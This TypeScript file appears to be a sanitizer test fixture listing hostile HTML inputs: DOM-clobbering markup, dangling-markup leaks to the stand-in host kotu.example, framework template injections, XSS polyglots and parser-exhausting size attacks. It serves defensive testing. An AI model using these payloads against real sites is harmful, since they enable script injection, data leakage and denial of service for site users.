import { times } from '../support/extent.ts'

// Attacks on the page around: names that hide its own, markup that swallows it, templates that it evaluates, sizes that
// exhaust it, and mixtures.

const CLOBBERED =
  'cookie body forms images getElementById querySelector createElement location defaultView currentScript documentElement head title referrer domain implementation'

const clobbered = CLOBBERED.split(' ').map((name) => [
  `clobbering document.${name}`,
  `<img name=${name} src=/nokta.gif>`,
])

export const pages: Record<string, string> = {
  ...Object.fromEntries(clobbered),
  'clobbering by id': '<a id=ayarlar href="javascript:xss()">x</a>',
  'clobbering two levels by a form': '<form id=ayarlar><input name=adres value=//kotu.example></form>',
  'clobbering two levels by a collection': '<a id=ayarlar></a><a id=ayarlar name=adres href="//kotu.example"></a>',
  'clobbering three levels': '<form id=a name=b><output name=c id=d>x</output></form><form id=a></form>',
  'clobbering by iframe names': '<iframe name=a srcdoc="<a id=b href=//kotu.example></a>"></iframe>',
  'clobbering form.attributes':
    '<form onclick=xss()><input name=attributes><input name=nodeName><input name=parentNode></form>',
  'clobbering form.submit': '<form action=/><input name=submit><input name=action></form>',
  'clobbering by embed and object names': '<object name=k></object><embed name=k><form name=k></form>',
  'clobbering the prototype': '<a id=__proto__ name=constructor href=#>x</a><img name=hasOwnProperty src=x>',
  'clobbering toString by a link': '<a id=k href="cid:xss()">x</a><area id=k href=javascript:xss()>',
  'prototype names as tags':
    '<__proto__ onclick=xss()>x</__proto__><constructor onclick=xss()>y</constructor><toString>z</toString>',
  'prototype names as attributes': '<a __proto__=x constructor=y toString=z valueOf=w href=/x onclick=xss()>x</a>',
  'slot, part and is': '<p slot=x part=y is=x-y exportparts=z onclick=xss()>x</p>',
  'class and data of the page': '<p class="btn admin" data-action=sil data-url=//kotu.example onclick=xss()>x</p>',
  'aria and role of the page': '<p role=button aria-label=x aria-owns=y tabindex=0 onkeydown=xss()>x</p>',
  'microdata and nonce': '<p itemscope itemprop=x itemid=javascript:xss() nonce=x onclick=xss()>x</p>',

  'dangling single-quoted picture': "<img src='https://kotu.example/?",
  'dangling double-quoted picture': '<img src="https://kotu.example/?',
  'dangling picture with a line feed': "<img src='https://kotu.example/?\n<p>x",
  'dangling link': '<a href="https://kotu.example/?x=',
  'dangling base target': '<base target="',
  'dangling textarea': '<form action=https://kotu.example/><button>x</button><textarea name=x>',
  'dangling select option': '<form action=https://kotu.example/><select name=x><option>',
  'dangling form': '<form action=https://kotu.example/>',
  'dangling button': '<button form=x formaction=https://kotu.example/ value="',
  'dangling meta refresh': '<meta http-equiv=refresh content="0;url=https://kotu.example/?',
  'dangling iframe': "<iframe srcdoc='",
  'dangling style': '<style>@import "https://kotu.example/?',
  'dangling script': '<script src="https://kotu.example/?',
  'dangling comment': '<!-- ',
  'dangling svg': '<svg><style><![CDATA[',
  'dangling title': '<title>',
  'dangling plaintext': '<plaintext>',
  'dangling noscript': '<noscript><p title="',
  'dangling end tag': '</p title="',
  'dangling bracket': 'x <',
  'dangling entity': 'x &#x3',
  'end tags of the page around': '</div></div></section></main></body></html><script>xss()</script>',
  'end tags of a cell around': '</td></tr></tbody></table><img src=x onerror=xss()>',
  'end tags of a form around': '</form><form action=https://kotu.example/><button>x</button>',

  'Angular expression': '{{constructor.constructor("xss()")()}}<b onclick=xss()>x</b>',
  'Angular application': '<p ng-app ng-csp ng-init="$eval.constructor(\'xss()\')()">{{1}}</p>',
  'Angular events':
    '<p ng-app><input autofocus ng-focus="$event.view.xss()" data-ng-click=xss() x-ng-mouseover=xss()></p>',
  'Angular templates': '<p [innerHTML]="x" (click)="xss()" [(ngModel)]="x" *ngIf="xss()" i18n>x</p>',
  'Vue expression': '{{_c.constructor("xss()")()}}<p v-html="x" onclick=xss()>x</p>',
  'Vue directives': '<p v-on:click=xss() @mouseover=xss() :href="x" v-bind:src="x" v-if="xss()" #default>x</p>',
  'Alpine directives': '<p x-data="{}" x-init="xss()" x-on:click=xss() x-html="xss()" @click.window=xss()>x</p>',
  'htmx attributes':
    '<p hx-get=//kotu.example hx-trigger=load hx-on:click=xss() hx-on::load=xss() data-hx-post=/x hx-vals="js:xss()">x</p>',
  'Stimulus, Turbo and Livewire attributes':
    '<turbo-stream action=append target=x><template><img src=x onerror=xss()></template></turbo-stream><p data-controller=x wire:click=xss()>x</p>',
  'Knockout binding':
    '<p data-bind="html:xss(),click:xss()">x</p><!-- ko if: xss() --><b onclick=xss()>x</b><!-- /ko -->',
  'jQuery Mobile and Bootstrap attributes':
    '<p data-role=popup data-toggle=tooltip data-html=true title="<img src=x onerror=xss()>" data-template="<img src=x onerror=xss()>">x</p>',
  'Polymer and Lit templates':
    '<dom-bind><template is=dom-bind><p on-click=xss() inner-h-t-m-l="[[x]]">x</p></template></dom-bind>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: another language's template
  'server template expressions': '${xss()}<%= xss() %>#{xss()}{% xss() %}[[xss()]]<b onclick=xss()>x</b>',
  'AMP and Google attributes': '<amp-script script=x></amp-script><p on="tap:x.y" [text]="xss()" onclick=xss()>x</p>',

  'polyglot of contexts': `'"\`--></title></style></textarea></noscript></script><svg/onload=xss()><!--`,
  'polyglot of quotes and an address': `javascript:"/*'/*\`/*--></noscript></title></textarea></style></template></select></script><img src=x onerror=xss()>//`,
  'polyglot of a tag and a comment': `<!--'/*"/*\`--><img/src=x/onerror=xss()//>*/`,
  'polyglot of an attribute and a style': `" style="x:expression(xss())" onfocus="xss()" autofocus tabindex=1 x='><svg onload=xss()>`,
  'polyglot of a Markdown link':
    '[x](javascript:xss()) ![x](x"onerror="xss()) <javascript:xss()> <https://ornek.com/"onclick="xss()>',
  'polyglot of a BBCode': '[url=javascript:xss()]x[/url][img]x" onerror="xss()[/img]<b onclick=xss()>x</b>',
  'polyglot of a JSON answer': '{"x":"</script><script>xss()</script>"}',
  'polyglot of an e-mail address': '"<svg/onload=xss()>"@ornek.com <mailto:x@y.z?subject=<script>xss()</script>>',
  'replacement patterns': "$&$`$'$1<img src=x onerror=xss()>$$<b onclick=xss()>x</b>",

  'size: 10,000 levels of div': `${'<div>'.repeat(10_000)}<img src=x onerror=xss()>`,
  'size: 10,000 levels of svg': `${'<svg>'.repeat(10_000)}<img src=x onerror=xss()>`,
  'size: 10,000 levels of formatting': `${'<b>'.repeat(10_000)}<img src=x onerror=xss()>${'</i>'.repeat(10_000)}`,
  'size: 6,000 levels of table cells': `${'<table><td>'.repeat(6_000)}<img src=x onerror=xss()>`,
  'size: 510 levels around a raw text element': `${'<div>'.repeat(510)}<svg><style><p title="</style><img src=x onerror=xss()>">`,
  'size: 500 levels of quotes around a form': `${'<blockquote>'.repeat(500)}<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>`,
  'size: an attribute of 90,000 characters': `<img alt="${'x'.repeat(90_000)}" src=x onerror=xss()>`,
  'size: a handler of 90,000 characters': `<img src=x onerror="${' '.repeat(90_000)}xss()">`,
  'size: 9,000 attributes': `<img ${Array.from({ length: 9_000 }, (_, i) => `a${i}`).join(' ')} src=x onerror=xss()>`,
  'size: a tag name of 90,000 letters': `<${'x'.repeat(90_000)} onclick=xss()>x`,
  'size: an address of 90,000 spaces': `<a href="${' '.repeat(90_000)}javascript:xss()">x</a>`,
  'size: 12,000 open comments': `${'<!--x>-'.repeat(12_000)}--><img src=x onerror=xss()>`,
  // The dearest of all: judging it takes as long as all the others. Longer in any case than a field may be.
  'size: a great many open brackets': `${'<'.repeat(times(90_000, 30_000))}img src=x onerror=xss()>`,
  'size: 16,000 entities': `${'&#x6a;'.repeat(16_000)}<img src=x onerror=xss()>`,
  'size: 7,000 declarations': `<p style="${'color:red;'.repeat(7_000)}background:url(https://kotu.example/d.png)">x</p>`,
}
